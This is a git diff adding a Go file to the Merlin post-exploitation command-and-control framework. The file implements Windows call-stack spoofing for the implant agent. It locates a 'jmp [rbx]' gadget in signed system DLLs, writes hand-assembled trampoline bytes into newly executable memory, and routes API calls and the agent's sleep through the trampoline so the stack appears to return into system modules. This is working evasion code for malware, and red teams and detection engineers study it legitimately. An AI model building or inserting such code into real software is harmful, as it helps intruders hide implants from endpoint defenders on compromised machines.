@@ -0,0 +1,249 @@
+//go:build windows
+
+/*
+Merlin is a post-exploitation command and control framework.
+
+This file is part of Merlin.
+Copyright (C) 2023 Russel Van Tuyl
+
+Merlin is free software: you can redistribute it and/or modify
+it under the terms of the GNU General Public License as published by
+the Free Software Foundation, either version 3 of the License, or
+any later version.
+
+Merlin is distributed in the hope that it will be useful,
+but WITHOUT ANY WARRANTY; without even the implied warranty of
+MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+GNU General Public License for more details.
+
+You should have received a copy of the GNU General Public License
+along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+*/
+
+package spoof
+
+import (
+	// Standard
+	"bytes"
+	"encoding/binary"
+	"fmt"
+	"runtime"
+	"sync"
+	"syscall"
+	"time"
+	"unsafe"
+
+	// X Packages
+	"golang.org/x/sys/windows"
+)
+
+// jmpRBX is the gadget, "jmp qword ptr [rbx]", which sends the API's return back to the trampoline through the address rbx points to
+var jmpRBX = []byte{0xFF, 0x23}
+
+// modules are the signed system DLLs searched, in order, for the gadget
+var modules = []string{"kernelbase.dll", "kernel32.dll", "ntdll.dll"}
+
+// fixup is the offset of the instructions in the trampoline the gadget returns to
+const fixup = 29
+
+// trampoline is executable code that calls an API with a spoofed return address. Calls through the same trampoline are
+// serialized because they share its frame
+type trampoline struct {
+	frame *[5]uintptr // frame is the API, the gadget, the caller's rbx, the real return address, and the fixup address
+	addr  uintptr     // addr is the address of the trampoline's code
+	sync.Mutex
+}
+
+// trampolines are built the first time a spoofed call is made; sleeping has its own so that a long sleep doesn't block
+// the API calls of jobs running while the Agent sleeps
+var trampolines = struct {
+	once  sync.Once
+	calls *trampoline // calls is used by Call
+	sleep *trampoline // sleep is used by the Agent's sleep
+	err   error
+}{}
+
+// Procedure is a Windows API procedure that is resolved when it is first used, such as a windows.LazyProc or resolve.Proc
+type Procedure interface {
+	Find() error
+	Addr() uintptr
+	Call(args ...uintptr) (r1, r2 uintptr, lastErr error)
+}
+
+// Call calls the procedure with its return address spoofed when spoofing is enabled and supported, otherwise it calls
+// the procedure directly. The return values match windows.LazyProc's Call
+func Call(proc Procedure, args ...uintptr) (r1, r2 uintptr, lastErr error) {
+	err := proc.Find()
+	if err != nil {
+		return 0, 0, err
+	}
+	if !Enabled() || setup() != nil {
+		return proc.Call(args...)
+	}
+	return trampolines.calls.call(proc.Addr(), args...)
+}
+
+// call calls the function at the address through the trampoline
+func (t *trampoline) call(fn uintptr, args ...uintptr) (r1, r2 uintptr, lastErr error) {
+	t.Lock()
+	defer t.Unlock()
+	t.frame[0] = fn
+	return syscall.SyscallN(t.addr, args...)
+}
+
+// setup finds the gadget and builds the trampolines the first time it is called
+func setup() error {
+	trampolines.once.Do(func() {
+		if runtime.GOARCH != "amd64" {
+			trampolines.err = fmt.Errorf("spoofed calls are not supported on %s", runtime.GOARCH)
+			return
+		}
+		var g uintptr
+		g, trampolines.err = find()
+		if trampolines.err != nil {
+			return
+		}
+		trampolines.calls, trampolines.err = build(g)
+		if trampolines.err != nil {
+			return
+		}
+		trampolines.sleep, trampolines.err = build(g)
+	})
+	return trampolines.err
+}
+
+// code returns the trampoline's instructions for the frame at the address. The trampoline is called with the API's
+// arguments, saves the real return address and rbx in the frame, points rbx at the fixup address, and jumps to the API
+// with the gadget as its return address. The API returns to the gadget, which jumps to the fixup instructions that
+// restore rbx and return to the real return address with the API's result still in rax
+func code(frame uintptr) []byte {
+	c := []byte{0x48, 0xB8} // mov rax, frame
+	c = binary.LittleEndian.AppendUint64(c, uint64(frame))
+	return append(c,
+		0x41, 0x5B, // pop r11
+		0x4C, 0x89, 0x58, 0x18, // mov [rax+24], r11
+		0x48, 0x89, 0x58, 0x10, // mov [rax+16], rbx
+		0x48, 0x8D, 0x58, 0x20, // lea rbx, [rax+32]
+		0xFF, 0x70, 0x08, // push qword ptr [rax+8]
+		0xFF, 0x20, // jmp qword ptr [rax]
+		// fixup
+		0x4C, 0x8D, 0x5B, 0xE0, // lea r11, [rbx-32]
+		0x49, 0x8B, 0x5B, 0x10, // mov rbx, [r11+16]
+		0x41, 0xFF, 0x63, 0x18, // jmp qword ptr [r11+24]
+	)
+}
+
+// build writes a trampoline that returns through the gadget to newly allocated memory and makes it executable
+func build(gadget uintptr) (*trampoline, error) {
+	t := &trampoline{frame: new([5]uintptr)}
+	c := code(uintptr(unsafe.Pointer(t.frame)))
+	var err error
+	t.addr, err = windows.VirtualAlloc(0, uintptr(len(c)), windows.MEM_COMMIT|windows.MEM_RESERVE, windows.PAGE_READWRITE)
+	if err != nil {
+		return nil, fmt.Errorf("there was an error allocating memory for the trampoline: %s", err)
+	}
+	copy(unsafe.Slice((*byte)(pointer(t.addr)), len(c)), c)
+	var old uint32
+	err = windows.VirtualProtect(t.addr, uintptr(len(c)), windows.PAGE_EXECUTE_READ, &old)
+	if err != nil {
+		return nil, fmt.Errorf("there was an error making the trampoline executable: %s", err)
+	}
+	t.frame[1] = gadget
+	t.frame[4] = t.addr + fixup
+	return t, nil
+}
+
+// find returns the address of the gadget in the executable sections of the first module that has it
+func find() (uintptr, error) {
+	for _, module := range modules {
+		name, err := windows.UTF16PtrFromString(module)
+		if err != nil {
+			return 0, err
+		}
+		var handle windows.Handle
+		if windows.GetModuleHandleEx(windows.GET_MODULE_HANDLE_EX_FLAG_UNCHANGED_REFCOUNT, name, &handle) != nil {
+			continue
+		}
+		base := uintptr(handle)
+		nt := base + uintptr(read32(base+0x3C))
+		sections := read16(nt + 6)
+		table := nt + 24 + uintptr(read16(nt+20))
+		for i := uintptr(0); i < uintptr(sections); i++ {
+			section := table + i*40
+			// IMAGE_SCN_MEM_EXECUTE
+			if read32(section+36)&0x20000000 == 0 {
+				continue
+			}
+			start := base + uintptr(read32(section+12))
+			data := unsafe.Slice((*byte)(pointer(start)), read32(section+8))
+			if offset := bytes.Index(data, jmpRBX); offset >= 0 {
+				return start + uintptr(offset), nil
+			}
+		}
+	}
+	return 0, fmt.Errorf("a jmp [rbx] gadget was not found in %v", modules)
+}
+
+// wait calls WaitForSingleObject through the trampoline on an event that is set when the wake channel receives, so the
+// sleeping thread's stack returns into the gadget's module instead of the Agent
+func wait(d time.Duration, wake <-chan struct{}) (bool, error) {
+	err := setup()
+	if err != nil {
+		return false, err
+	}
+	event, err := windows.CreateEvent(nil, 1, 0, nil)
+	if err != nil {
+		return false, fmt.Errorf("there was an error creating the wake event: %s", err)
+	}
+	defer windows.CloseHandle(event)
+
+	done := make(chan struct{})
+	defer close(done)
+	go func() {
+		select {
+		case <-wake:
+			_ = windows.SetEvent(event)
+		case <-done:
+		}
+	}()
+
+	waitForSingleObject := windows.NewLazySystemDLL("kernel32.dll").NewProc("WaitForSingleObject")
+	err = waitForSingleObject.Find()
+	if err != nil {
+		return false, err
+	}
+	deadline := time.Now().Add(d)
+	for {
+		// Wait in chunks that fit in the DWORD timeout without reaching INFINITE
+		ms := time.Until(deadline).Milliseconds()
+		if ms <= 0 {
+			return false, nil
+		}
+		if ms > windows.INFINITE-1 {
+			ms = windows.INFINITE - 1
+		}
+		ret, _, errWait := trampolines.sleep.call(waitForSingleObject.Addr(), uintptr(event), uintptr(ms))
+		switch uint32(ret) {
+		case windows.WAIT_OBJECT_0:
+			return true, nil
+		case uint32(windows.WAIT_TIMEOUT):
+		default:
+			return false, fmt.Errorf("there was an error calling WaitForSingleObject: %s", errWait)
+		}
+	}
+}
+
+// read16 returns the 16-bit value at the address in the Agent's process
+func read16(addr uintptr) uint16 {
+	return *(*uint16)(pointer(addr))
+}
+
+// read32 returns the 32-bit value at the address in the Agent's process
+func read32(addr uintptr) uint32 {
+	return *(*uint32)(pointer(addr))
+}
+
+// pointer converts an address in the Agent's process, such as a loaded module's image, to a pointer
+func pointer(addr uintptr) unsafe.Pointer {
+	return *(*unsafe.Pointer)(unsafe.Pointer(&addr))
+}